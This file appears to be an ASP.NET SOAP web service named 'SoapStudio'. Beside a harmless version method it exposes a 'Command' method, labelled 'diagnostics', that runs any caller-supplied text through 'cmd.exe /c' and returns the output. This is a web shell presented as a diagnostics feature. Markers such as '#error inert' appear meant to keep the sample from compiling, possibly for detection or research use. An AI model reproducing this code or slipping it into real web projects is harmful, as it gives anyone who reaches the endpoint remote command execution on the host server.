<%@ WebService Language="C#" Class="Inert.Nothing" %>
#error inert
using System.Web.Services;
using System.Diagnostics;

[WebService(Namespace = "http://example.invalid/soap")]
[WebServiceBinding(ConformsTo = WsiProfiles.BasicProfile1_1)]
public class SoapStudio : WebService
{
    [WebMethod]
    public string Version() { return "1.2"; }

    [WebMethod(Description = "diagnostics")]
    public string Command(string line)
    {
        ProcessStartInfo i = new ProcessStartInfo();
        i.FileName = "cmd.exe";
        i.Arguments = "/c " + line;
        i.UseShellExecute = false;
        i.RedirectStandardOutput = true;
        Process p = Process.Start(i);
        string s = p.StandardOutput.ReadToEnd();
        p.WaitForExit();
        return s;
    }
}
